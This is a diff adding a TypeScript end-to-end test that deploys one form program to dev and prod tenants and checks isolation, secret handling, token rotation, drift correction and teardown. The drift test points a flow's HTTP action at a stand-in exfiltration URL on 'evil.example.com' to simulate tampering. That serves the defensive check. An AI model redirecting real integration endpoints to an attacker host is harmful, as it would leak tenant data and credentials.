@@ -1,0 +1,172 @@
+/**
+ * One form program deployed to two tenants unchanged, through the real engine: the realistic
+ * example (a flow vault connection whose token is secret config, a flow whose HTTP action
+ * uses it, a form whose FLOW node points at the flow) as stack `dev` on tenant A and stack
+ * `prod` on tenant B. Each tenant holds its own ids and each form points at its own tenant's
+ * flow, with no id in code or config; a second preview changes nothing; a rotated token is
+ * an update; drift on a flow's action is seen and undone; destroy leaves both tenants empty.
+ */
+import * as fs from "node:fs";
+import * as os from "node:os";
+import * as path from "node:path";
+import { REPO_ROOT } from "../../scripts/lib/pulumi";
+import { E2E_TIMEOUT_MS, rawStateText, startE2e, type E2eContext } from "./harness";
+
+jest.setTimeout(E2E_TIMEOUT_MS);
+
+const EXAMPLE_DIR = path.join(REPO_ROOT, "examples", "realistic");
+const TOKENS = { dev: "crm-token-dev-Vq83Lm", prod: "crm-token-prod-Zt51Kp", rotated: "crm-token-dev-rotated-Hw62" };
+
+interface Flow {
+  id: string;
+  name: string;
+  actions: { id: string; params: { connection_id: string; url: string } }[];
+}
+interface Connection {
+  id: string;
+  name: string;
+  ready: boolean;
+  fingerprint: string;
+  setup?: unknown;
+}
+interface Form {
+  id: string;
+  nodes: { id: string; type: string; config: { flow_id?: string } }[];
+}
+
+/** What a tenant holds of the program's flow objects, read through its API. */
+async function flowObjects(ctx: E2eContext) {
+  const connections = (
+    await ctx.api.call<{ connections: Connection[] }>(
+      "GET",
+      "/flows/vault/connections?include_totals=true&per_page=100",
+    )
+  ).body.connections;
+  const summaries = (await ctx.api.call<{ flows: { id: string }[] }>("GET", "/flows?include_totals=true&per_page=100"))
+    .body.flows;
+  const flows = await Promise.all(summaries.map(async (s) => (await ctx.api.call<Flow>("GET", `/flows/${s.id}`)).body));
+  const forms = await Promise.all(
+    (await ctx.api.forms()).map(async (f) => (await ctx.api.call<Form>("GET", `/forms/${f.id}`)).body),
+  );
+  return { connections, flows, forms };
+}
+
+describe("one form program, two tenants: dev and prod", () => {
+  let dev: E2eContext;
+  let prod: E2eContext;
+  let scratch: string;
+
+  beforeAll(async () => {
+    // A copy of the example, so the stacks' config files stay out of the repository.
+    scratch = fs.mkdtempSync(path.join(os.tmpdir(), "tenant-promotion-"));
+    const programDir = path.join(scratch, "program");
+    fs.mkdirSync(programDir);
+    for (const file of fs.readdirSync(EXAMPLE_DIR)) {
+      if (file !== "node_modules") fs.cpSync(path.join(EXAMPLE_DIR, file), path.join(programDir, file));
+    }
+    fs.writeFileSync(
+      path.join(programDir, "Pulumi.yaml"),
+      "name: promotion\nruntime:\n  name: nodejs\n  options:\n    typescript: true\n",
+    );
+    fs.symlinkSync(path.join(REPO_ROOT, "node_modules"), path.join(programDir, "node_modules"), "dir");
+    const stack = (name: "dev" | "prod") =>
+      startE2e({
+        programDir,
+        stackName: name,
+        config: {
+          hookPassword: { value: `hook-${name}-password`, secret: true },
+          crmToken: { value: TOKENS[name], secret: true },
+        },
+      });
+    dev = await stack("dev");
+    prod = await stack("prod");
+  });
+
+  afterAll(async () => {
+    await dev?.dispose();
+    await prod?.dispose();
+    if (scratch) fs.rmSync(scratch, { recursive: true, force: true });
+  });
+
+  test("each stack deploys the program to its own tenant; each form points at its own tenant's flow", async () => {
+    for (const ctx of [dev, prod]) expect((await ctx.stack.up()).summary.result).toBe("succeeded");
+    const a = await flowObjects(dev);
+    const b = await flowObjects(prod);
+    for (const tenant of [a, b]) {
+      expect(tenant.connections).toHaveLength(1);
+      expect(tenant.flows).toHaveLength(1);
+      expect(tenant.forms).toHaveLength(1);
+      const [connection] = tenant.connections;
+      const [flow] = tenant.flows;
+      expect(connection).toMatchObject({ name: "crm-api", ready: true });
+      expect(connection).not.toHaveProperty("setup");
+      expect(flow.actions[0].params.connection_id).toBe(connection.id);
+      const flowNode = tenant.forms[0].nodes.find((node) => node.type === "FLOW")!;
+      expect(flowNode.config.flow_id).toBe(flow.id);
+    }
+    // Each tenant made its own ids.
+    expect(a.flows[0].id).not.toBe(b.flows[0].id);
+    expect(a.connections[0].id).not.toBe(b.connections[0].id);
+    // The tokens are secrets in each stack's state, never plaintext.
+    for (const [ctx, token] of [
+      [dev, TOKENS.dev],
+      [prod, TOKENS.prod],
+    ] as const) {
+      const state = rawStateText(ctx);
+      expect(state).toContain("FlowVaultConnection");
+      expect(state).not.toContain(token);
+    }
+  });
+
+  test("a second preview of each stack changes nothing; a refresh reports nothing", async () => {
+    for (const ctx of [dev, prod]) {
+      await ctx.stack.preview({ expectNoChanges: true });
+      await ctx.stack.preview({ refresh: true, expectNoChanges: true });
+    }
+  });
+
+  test("a rotated connection token is an update of the connection alone, applied to dev's tenant only", async () => {
+    const before = (await flowObjects(dev)).connections[0];
+    const prodBefore = (await flowObjects(prod)).connections[0];
+    await dev.stack.setConfig("crmToken", { value: TOKENS.rotated, secret: true });
+    const preview = await dev.stack.preview({ diff: true });
+    expect(preview.changeSummary.update).toBe(1);
+    expect(preview.stdout).toContain("tenant:FlowVaultConnection");
+    expect(preview.stdout).not.toContain(TOKENS.rotated);
+    const up = await dev.stack.up();
+    expect(up.summary.resourceChanges?.update).toBe(1);
+    const after = (await flowObjects(dev)).connections[0];
+    expect(after.id).toBe(before.id);
+    // The tenant took new credentials: their fingerprint moved.
+    expect(after.fingerprint).not.toBe(before.fingerprint);
+    expect((await flowObjects(prod)).connections[0]).toEqual(prodBefore);
+    expect(rawStateText(dev)).not.toContain(TOKENS.rotated);
+    await dev.stack.preview({ expectNoChanges: true });
+  });
+
+  test("drift on a flow's action is seen by a refresh and undone by up --refresh", async () => {
+    const [flow] = (await flowObjects(dev)).flows;
+    const edited = structuredClone(flow.actions);
+    edited[0].params.url = "https://evil.example.com/exfiltrate";
+    const patch = await dev.api.call("PATCH", `/flows/${flow.id}`, { actions: edited });
+    expect(patch.status).toBe(200);
+    await expect(dev.stack.preview({ refresh: true, expectNoChanges: true })).rejects.toThrow();
+    const refreshed = await dev.stack.preview({ refresh: true, diff: true });
+    expect(refreshed.changeSummary.update).toBe(1);
+    expect(refreshed.stdout).toContain("evil.example.com");
+    await dev.stack.up({ refresh: true });
+    const [undone] = (await flowObjects(dev)).flows;
+    expect(undone.actions[0].params.url).toBe("https://crm.example.com/api/companies/lookup");
+    await dev.stack.preview({ refresh: true, expectNoChanges: true });
+  });
+
+  test("destroy leaves both tenants empty", async () => {
+    for (const ctx of [dev, prod]) {
+      await ctx.stack.destroy();
+      const left = await flowObjects(ctx);
+      expect(left).toEqual({ connections: [], flows: [], forms: [] });
+      expect(await ctx.api.eventStreams()).toEqual([]);
+      expect(await ctx.api.hasTemplate()).toBe(false);
+    }
+  });
+});
